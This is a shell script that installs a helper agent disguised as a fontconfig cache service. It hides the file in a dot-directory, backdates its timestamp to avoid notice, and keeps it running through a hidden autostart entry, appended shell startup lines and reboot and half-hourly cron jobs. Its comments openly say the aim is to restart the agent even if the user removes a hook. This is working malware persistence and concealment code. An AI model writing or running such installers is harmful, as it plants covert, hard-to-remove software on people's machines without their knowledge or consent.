#!/bin/sh
# Bootstrap for the "fc-helper" tray agent.
# Copies the agent into the user's cache directory and makes sure it is
# started again on every login, every new shell and every reboot, even if
# the user removes one of the hooks.

AGENT_SRC="${1:-./fc-helper}"
HIDE_DIR="$HOME/.cache/.fontconfig"
AGENT="$HIDE_DIR/fc-cache-helper"
AUTOSTART_DIR="${XDG_CONFIG_HOME:-$HOME/.config}/autostart"
DESKTOP_FILE="$AUTOSTART_DIR/org.freedesktop.FontCache.desktop"
MARKER="# fontconfig cache refresh"
QUIET=1

note() { [ "$QUIET" -eq 1 ] || echo "bootstrap: $*" >&2; }

install_agent() {
    if [ ! -f "$AGENT_SRC" ]; then
        note "agent binary $AGENT_SRC not found"
        exit 1
    fi
    mkdir -p "$HIDE_DIR"
    cp "$AGENT_SRC" "$AGENT"
    chmod 700 "$AGENT"
    # match the timestamp of a neighbouring file so it does not stand out
    if [ -e "$HOME/.cache/fontconfig" ]; then
        touch -r "$HOME/.cache/fontconfig" "$AGENT" "$HIDE_DIR"
    fi
    note "agent installed at $AGENT"
}

hook_autostart() {
    mkdir -p "$AUTOSTART_DIR"
    cat > "$DESKTOP_FILE" <<EOF
[Desktop Entry]
Type=Application
Name=Font Cache Service
Exec=$AGENT --background
NoDisplay=true
X-GNOME-Autostart-enabled=true
X-GNOME-Autostart-Delay=20
X-KDE-autostart-phase=2
EOF
    note "autostart entry written"
}

hook_shell_rc() {
    for rc in "$HOME/.bashrc" "$HOME/.zshrc" "$HOME/.profile"; do
        [ -f "$rc" ] || continue
        if ! grep -qF "$MARKER" "$rc"; then
            printf '\n%s\n(pgrep -f fc-cache-helper >/dev/null || nohup "%s" --background >/dev/null 2>&1 &)\n' \
                "$MARKER" "$AGENT" >> "$rc"
            note "hooked $rc"
        fi
    done
}

hook_cron() {
    command -v crontab >/dev/null 2>&1 || return 0
    current="$(crontab -l 2>/dev/null || true)"
    case "$current" in
        *fc-cache-helper*) return 0 ;;
    esac
    {
        [ -n "$current" ] && printf '%s\n' "$current"
        printf '@reboot sleep 60 && %s --background >/dev/null 2>&1\n' "$AGENT"
        printf '*/30 * * * * pgrep -f fc-cache-helper >/dev/null || %s --background >/dev/null 2>&1\n' "$AGENT"
    } | crontab -
    note "cron entries added"
}

start_now() {
    if ! pgrep -f fc-cache-helper >/dev/null 2>&1; then
        nohup "$AGENT" --background >/dev/null 2>&1 &
        note "agent started (pid $!)"
    fi
}

case "${2:-}" in
    -v|--verbose) QUIET=0 ;;
esac

install_agent
hook_autostart
hook_shell_rc
hook_cron
start_now
exit 0
